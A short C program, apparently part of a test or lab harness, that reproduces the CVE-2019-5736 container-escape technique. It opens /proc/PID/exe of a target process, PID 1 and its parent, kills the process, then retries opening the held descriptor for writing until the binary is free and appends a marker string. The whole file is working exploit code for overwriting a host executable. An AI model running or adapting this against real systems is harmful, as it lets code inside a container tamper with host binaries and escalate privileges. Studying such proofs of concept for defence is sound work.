// CVE-2019-5736: the program that started us, by /proc/PID/exe, opened for writing as soon as it does not run any more.
#include "attack.h"

static int overwrite(int held) {
    char self[64];
    snprintf(self, sizeof self, "/proc/self/fd/%d", held);
    for (int tries = 0; tries < 2000; tries++) {
        int file = open(self, O_WRONLY | O_APPEND);
        if (file >= 0) return dprintf(file, "hurt\n");
        if (errno != ETXTBSY) return -1;
        usleep(500);
    }
    return -1;
}

int main(void) {
    char path[64];
    int result = -1;
    int pids[] = { victim(), 1, getppid() };
    for (int i = 0; i < 3; i++) {
        snprintf(path, sizeof path, "/proc/%d/exe", pids[i]);
        int held = open(path, O_RDONLY);
        if (held < 0) continue;
        kill(pids[i], SIGKILL);
        if (overwrite(held) > 0) result = 0;
        if (i == 0) break;
    }
    return verdict(result);
}
